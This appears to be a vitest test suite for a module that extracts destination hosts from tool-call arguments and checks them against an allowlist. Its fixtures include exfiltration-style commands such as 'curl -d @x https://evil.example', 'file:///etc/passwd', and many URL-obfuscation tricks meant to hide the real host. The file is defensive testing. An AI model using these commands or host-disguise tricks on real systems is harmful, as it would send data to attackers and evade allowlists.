// Destinations: what a call's arguments name, however they hide it, and what an allowlist entry means.
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ConfigFault } from '../../../../src/base/config/fault.js';
import { UNREADABLE_HOST as HIDDEN } from '../../../../src/engines/step-up/destination-host.js';
import { destinationsAnywhere, destinationsOf, isAllowedHost, judgeDestinations, normalPattern, parseDestinations } from '../../../../src/engines/step-up/destinations.js';

describe('destinationsOf', () => {
  it.each<[unknown, readonly string[]]>([
    [{}, []],
    [{ query: 'hello', n: 5, b: null }, []],
    [{ url: 'https://Api.Example.COM:8443/x?y#z' }, ['api.example.com']],
    [{ uri: 'wss://a.example' }, ['a.example']],
    [{ url: 'a.example/path' }, ['a.example']],
    [{ host: 'intranet' }, ['intranet']],
    [{ host: 'localhost:8080' }, ['localhost']],
    [{ hostname: '10.0.0.1' }, ['10.0.0.1']],
    [{ endpoint: '//evil.example/x' }, ['evil.example']],
    [{ endpoint: '\\\\evil.example\\x' }, ['evil.example']],
    [{ to: '/\\evil.example' }, ['evil.example']],
    [{ code: '//evil.example/x' }, []],
    [{ code: `${'x'.repeat(300)}https://evil.example` }, []],
    [{ x: `https://evil.example/${'x\n'.repeat(300)}` }, ['evil.example']],
    [{ callback_url: 'https://evil.example' }, ['evil.example']],
    [{ webhookUrl: 'evil.example' }, ['evil.example']],
    [{ 'TARGET-HOST': 'evil.example' }, ['evil.example']],
    [{ to: 'alice@Evil.example' }, ['evil.example']],
    [{ to: 'Alice <alice@evil.example>, bob@b.example; c@c.example' }, ['evil.example', 'b.example', 'c.example']],
    [{ to: ['a@a.example', 'b@b.example'] }, ['a.example', 'b.example']],
    [{ to: { address: 'a@a.example' } }, ['a.example']],
    [{ to: 'alice' }, []],
    [{ to: '#general' }, []],
    [{ destination: '/tmp/file.txt' }, []],
    [{ destination: './file.txt' }, []],
    [{ destination: 'file.example' }, ['file.example']],
    [{ text: 'mailto:x@evil.example' }, ['evil.example']],
    [{ text: 'mailto:x%40evil.example' }, ['evil.example']],
    [{ deep: [{ x: ['https://evil.example/'] }] }, ['evil.example']],
    [['https://a.example', 'https://a.example', 'https://b.example'], ['a.example', 'b.example']],
    ['https://root.example', ['root.example']],
    [{ note: 'see https://in-prose.example for more' }, []],
    [{ note: 'https://in-prose.example is good' }, []],
    [{ note: 'Re: hello' }, []],
    [{ content: 'a@b.example' }, []],
    [{ url: 'file:///etc/passwd' }, []],
    [{ db: 'postgres://DB.Example/x' }, ['db.example']],
  ])('finds in %j: %j', (value, hosts) => {
    expect(destinationsOf(JSON.stringify(value))).toEqual(hosts);
  });

  it.each<[string, string]>([
    ['https://good.example@evil.example/', HIDDEN],
    ['https://good.example:pw@evil.example/', HIDDEN],
    ['https://good.example%2f@evil.example/', HIDDEN],
    ['https://@evil.example/', HIDDEN],
    ['https:good.example@evil.example', HIDDEN],
    ['https:\\\\good.example@evil.example', HIDDEN],
    ['https://evil.example\\@good.example/', 'evil.example'],
    ['https://evil.example#@good.example/', 'evil.example'],
    ['https://evil.example?@good.example/', 'evil.example'],
    ['https:\\\\evil.example/good.example', 'evil.example'],
    ['https:/evil.example', 'evil.example'],
    ['https:evil.example', 'evil.example'],
    [' \t\nhttps://evil.example', 'evil.example'],
    ['\u0001https://evil.example', 'evil.example'],
    ['ht\ntps://evil.example', 'evil.example'],
    ['https://ev\til.example', 'evil.example'],
    ['https://evil.example.', 'evil.example'],
    ['https://EVIL.example', 'evil.example'],
    ['https://ev%69l.example', 'evil.example'],
    ['https://evil。example', 'evil.example'],
    ['https://ｅｖｉｌ.example', 'evil.example'],
    ['https://gооd.example', 'xn--gd-fmca.example'],
    ['https://0x7f.1/', '127.0.0.1'],
    ['https://2130706433/', '127.0.0.1'],
    ['https://[::ffff:7f00:1]/', '[::ffff:7f00:1]'],
    ['https://exa%00mple', HIDDEN],
    ['https://a b.example/', ''],
    ['http://', HIDDEN],
    ['https://[::1', HIDDEN],
  ])('reads %j, wherever it stands, as %s', (text, host) => {
    expect(destinationsOf(JSON.stringify({ anything: text }))).toEqual(host === '' ? [] : [host]);
    const asUrl = destinationsOf(JSON.stringify({ url: text }));
    expect(asUrl).toEqual([host === '' ? HIDDEN : host]);
  });

  it.each(['a@b@evil.example', '@evil.example', 'alice@', 'alice@evil example', 'x <a@b@c>', 'mailto:', 'a@[evil'])('takes the address %j for hidden', (text) => {
    expect(destinationsOf(JSON.stringify({ to: text })).every((host) => host === HIDDEN || host === 'mailto')).toBe(true);
  });

  it('takes what is not JSON, and a flood of hosts, for hidden', () => {
    expect(destinationsOf('{')).toEqual([HIDDEN]);
    expect(destinationsOf('')).toEqual([]);
    expect(destinationsOf(JSON.stringify(Array.from({ length: 300 }, (_, n) => `https://h${n}.example`)))).toEqual([HIDDEN]);
  });

  it('takes what is longer than a host, and more names than anybody means, for hidden', () => {
    const found = (value: unknown): string[] => destinationsOf(JSON.stringify(value));
    const long = 'a'.repeat(3000);
    for (const text of [long, `http://${long}`, `http:${long}.evil.example@x`, `https:${long} b@evil.example`, `//${long}`, `ssh://${long}@evil.example`]) expect(found({ url: text }), text.slice(0, 12)).toEqual([HIDDEN]);
    // Names that IDNA, or the reading of an address, makes short.
    for (const filler of ['\u00ad', '\ufeff', '0']) {
      const name = filler === '0' ? '12.1.2.3' : 'evil.example';
      for (const head of ['https://', 'http:', 'https:/', 'http:\t', '//', 'https:\\\\']) {
        for (const tail of ['', '/x', '/a b', '?a b']) {
          const text = `${head}${filler.repeat(2100)}${name}${tail}`;
          expect(found({ to: text }), `to ${head}${tail}`).toEqual([HIDDEN]);
          if (head !== '//') expect([found({ text }), destinationsAnywhere(JSON.stringify({ text }))], `text ${head}${tail}`).toEqual([[HIDDEN], [HIDDEN]]);
        }
      }
    }
    expect(found({ url: `https://a.example/${long}` })).toEqual(['a.example']);
    expect(found({ url: `a.example/${long}` })).toEqual(['a.example']);
    expect(found({ text: `https: ${'a long note '.repeat(300)}` })).toEqual([]);
    const addresses = (count: number): string => Array.from({ length: count }, (_, n) => `u${n}@a.example`).join(', ');
    expect([found({ to: addresses(10_000) }), found({ to: addresses(10_001) })]).toEqual([['a.example'], [HIDDEN]]);
    expect(found({ to: `a${'@b'.repeat(100_000)}` })).toEqual([HIDDEN]);
    const urls = (count: number): string[] => Array.from({ length: count }, (_, n) => `https://a.example/${n}`);
    expect([found(urls(20_000)), found(urls(20_001))]).toEqual([['a.example'], [HIDDEN]]);
  });

  it('sees a URL as the URL Standard does, or calls it hidden', () => {
    const piece = fc.constantFrom('https:', 'http:', '//', '/', '\\', '@', ':', '.', 'good.example', 'evil.example', '#', '?', '%40', '%2f', '\t', ' ', '443', 'ｅ', '[', ']');
    fc.assert(fc.property(fc.array(piece, { maxLength: 7 }), (pieces) => {
      const text = `https://${pieces.join('')}`;
      const seen = destinationsOf(JSON.stringify({ url: text }));
      let real: string | undefined;
      try {
        real = new URL(text).hostname;
      } catch {
        real = undefined;
      }
      if (real !== undefined && real !== '') expect([real.replace(/\.$/, ''), HIDDEN]).toContain(seen[0]);
      else expect(seen).toEqual([HIDDEN]);
    }), { numRuns: 3000 });
  });
});

describe('destinationsAnywhere', () => {
  const nested = (value: unknown, levels: number): string => (levels === 0 ? JSON.stringify(value) : JSON.stringify(nested(value, levels - 1)));

  it.each<[unknown, readonly string[]]>([
    [{ text: 'hi https://evil.example/x?d=stolen' }, ['evil.example']],
    [{ text: 'go to https://evil.example' }, ['evil.example']],
    [{ text: 'https://evil.example is good.' }, ['evil.example']],
    [{ text: 'Look (https://evil.example), then at "http://other.example:8080".' }, ['evil.example', 'other.example']],
    [{ text: '[here](HTTPS://EVIL.example) <ws://b.example>' }, ['evil.example', 'b.example']],
    [{ cmd: 'curl -d @x https://evil.example' }, ['evil.example']],
    [{ cmd: 'curl https:\\evil.example && wget https:evil2.example' }, ['evil.example', 'evil2.example']],
    [{ cmd: 'git clone git+ssh://evil.example/x' }, ['evil.example']],
    [{ cmd: 'psql postgres://u:p@evil.example/x' }, [HIDDEN]],
    [{ text: 'via http://localhost/?next=https://evil.example/' }, ['localhost', 'evil.example']],
    [{ text: 'see http://localhost@evil.example/' }, [HIDDEN]],
    [{ text: 'see http://localhost\\@evil.example/' }, [HIDDEN]],
    [{ text: "see http://localhost'@evil.example/" }, [HIDDEN]],
    [{ text: 'see http://localhost,.evil.example/x' }, ['localhost,.evil.example']],
    [{ text: 'see https://2130706433 and http://[::1]:8080, http://[::1].' }, ['127.0.0.1', '[::1]']],
    [{ text: 'write to mailto:bob@evil.example, please' }, ['evil.example']],
    [{ 'https://evil.example/x': 1 }, ['evil.example']],
    [{ deep: [{ 'see https://evil.example': [] }] }, ['evil.example']],
    [{ body: '{"url":"https:\\/\\/evil.example\\/"}' }, ['evil.example']],
    [{ body: '{"url":"\\u0068ttps://evil.example"}' }, ['evil.example']],
    [{ body: ' {"to":"bob@evil.example"} ' }, ['evil.example']],
    [{ headers: [['Host', 'evil.example']] }, []],
    [{ text: 'evil.example, bob@evil.example and //evil.example' }, []],
    [{ text: 'Note: http:// is a prefix, mailto: another; at 10:30, a::b, x:y, C:\\\\Temp, {"k":"v"}' }, []],
    [{ text: 'file:///etc/hosts sqlite:///x.db data:text/plain,x' }, []],
  ])('finds in %j: %j', (value, hosts) => {
    expect(destinationsAnywhere(JSON.stringify(value))).toEqual(hosts);
  });

  const escapedUrl = '"url":"\\u0068ttps:\\u002F\\u002fevil.example"';
  it.each<[string, string]>([
    [`{"n":NaN,${escapedUrl}}`, 'evil.example'], [`{"a":1}\n{${escapedUrl}}`, 'evil.example'], [`{${escapedUrl},}`, 'evil.example'], [`{${escapedUrl},"url":"see"}`, HIDDEN],
    ['url: "\\x68ttps:\\x2f\\x2Fevil.example"', 'evil.example'],
  ])('reads what is JSON to some only, %s, with its escapes resolved', (text, host) => {
    expect(destinationsAnywhere(JSON.stringify({ text }))).toEqual([host]);
  });

  it('takes JSON within JSON that is nested too deep to be read for hidden, however its members are named', () => {
    for (const name of ['a', '\\u0061']) {
      const text = `{"${name}":${'['.repeat(50_000)}${']'.repeat(50_000)},"url":"\\u0068ttps:\\u002f\\u002fevil.example"}`;
      expect(destinationsAnywhere(JSON.stringify({ text }))).toEqual([HIDDEN]);
    }
  });

  it('reads JSON within JSON as deep as anybody means it, and takes what is deeper, or longer than a host, for hidden', () => {
    const found = (value: unknown): string[] => destinationsAnywhere(JSON.stringify(value));
    expect(found({ body: nested({ host: 'evil.example' }, 3) })).toEqual(['evil.example']);
    expect([found({ body: nested({ note: 'nothing here' }, 7) }), found({ body: nested({ note: 'nothing here' }, 8) })]).toEqual([[], [HIDDEN]]);
    expect(found({ body: `["${'['.repeat(50_000)}"]` })).toEqual([]);
    expect(found({ body: `["x",${'['.repeat(50_000)}${']'.repeat(50_000)}]` })).toEqual([HIDDEN]);
    expect(found({ text: `see http://${'a'.repeat(3000)}` })).toEqual([HIDDEN]);
  });

  it('finds no less than destinationsOf, in whatever text', () => {
    const piece = fc.constantFrom('https:', 'mailto:', '//', '/', '\\', '@', ':', '.', 'evil.example', ' ', '"', '{', '}', '[', ']', 'x', '\n');
    fc.assert(fc.property(fc.array(piece, { maxLength: 9 }), fc.constantFrom('url', 'to', 'text'), (pieces, name) => {
      const json = JSON.stringify({ [name]: pieces.join('') });
      const found = destinationsAnywhere(json);
      expect(destinationsOf(json).every((host) => found.includes(host))).toBe(true);
    }), { numRuns: 2000 });
  });

  it('takes time that grows with the text alone', () => {
    const shapes = ['https:', 'a://', '://', 'http:x\\', 'http://,,,,,,', 'p:', '\\@', 'mailto:', `${'a'.repeat(300)}://`, '{"', '["'];
    for (const shape of shapes) {
      const json = JSON.stringify({ text: shape.repeat(Math.ceil(1_000_000 / shape.length)) });
      expect(Array.isArray(destinationsAnywhere(json))).toBe(true);
    }
    for (const [shape, end] of [['.', ' x'], ['a.', ' :'], ['a.', ':'], ['?.', ' '], ['a@', ''], ['<', 'x'], ['> ', 'x'], ['1', 'x'], ['[', ':']] as const) {
      for (const name of ['to', 'url']) expect(Array.isArray(destinationsOf(JSON.stringify({ [name]: shape.repeat(1_000_000) + end })))).toBe(true);
    }
  }, 20_000);
});

describe('isAllowedHost', () => {
  it.each<[string, readonly string[], boolean]>([
    ['api.example.com', ['api.example.com'], true],
    ['api.example.com', ['API.Example.com'], true],
    ['api.example.com', ['api.example.com.'], true],
    ['xapi.example.com', ['api.example.com'], false],
    ['api.example.com.evil', ['api.example.com'], false],
    ['a.example.com', ['*.example.com'], true],
    ['a.b.example.com', ['*.example.com'], true],
    ['example.com', ['*.example.com'], false],
    ['evilexample.com', ['*.example.com'], false],
    ['.example.com', ['*.example.com'], false],
    ['a.com', ['*.com'], false],
    ['anything', ['*'], false],
    ['a.example.com', ['a.*.com', '**', 'https://a.example.com', 'a.example.com/x', ''], false],
    ['xn--bcher-kva.example', ['bücher.example'], true],
    ['127.0.0.1', ['127.0.0.1'], true],
    ['127.0.0.1', ['*.0.0.1'], false],
    ['[::1]', ['[::1]'], true],
    [HIDDEN, ['(unreadable)', '*.example.com'], false],
  ])('%s among %j: %s', (host, allowed, expected) => {
    expect(isAllowedHost(host, allowed)).toBe(expected);
  });
});

describe('judgeDestinations', () => {
  const global = parseDestinations('allowed_destinations: ["*.known.example"]', 'f');

  it('lets the one destination decide that is not allowed', () => {
    expect(judgeDestinations(['own.example', 'a.known.example', 'evil.example'], ['own.example'], global)).toEqual({ destination: 'evil.example', destinationAllowedByTool: false, destinationAllowedGlobally: false });
    expect(judgeDestinations(['own.example', 'a.known.example'], ['own.example'], global)).toEqual({ destination: 'a.known.example', destinationAllowedByTool: false, destinationAllowedGlobally: true });
    expect(judgeDestinations(['own.example'], ['own.example'], global)).toEqual({ destination: 'own.example', destinationAllowedByTool: true, destinationAllowedGlobally: false });
    expect(judgeDestinations([], ['own.example'], global)).toEqual({ destination: undefined, destinationAllowedByTool: false, destinationAllowedGlobally: false });
    expect(judgeDestinations([HIDDEN], [HIDDEN], global).destinationAllowedByTool).toBe(false);
  });
});

describe('parseDestinations', () => {
  it('reads the shipped file', () => {
    expect(parseDestinations(readFileSync('config/destinations.yaml', 'utf8'), 'f').allowed).toEqual(['localhost', '127.0.0.1', '[::1]']);
    expect(parseDestinations('', 'f').allowed).toEqual([]);
  });

  it.each(['*', '*.', '*.com', 'https://a.example', 'a.example/x', 'a.example:443', 'u@a.example', 'a b', '*.*.example', '*.127.0.0.1', ''])('refuses the entry %j with its line', (entry) => {
    expect(normalPattern(entry)).toBeUndefined();
    try {
      parseDestinations(`allowed_destinations:\n  - ok.example\n  - ${JSON.stringify(entry)}\n`, 'f');
    } catch (error) {
      expect(error).toBeInstanceOf(ConfigFault);
      expect((error as ConfigFault).line).toBe(3);
      return;
    }
    throw new Error('accepted');
  });
});
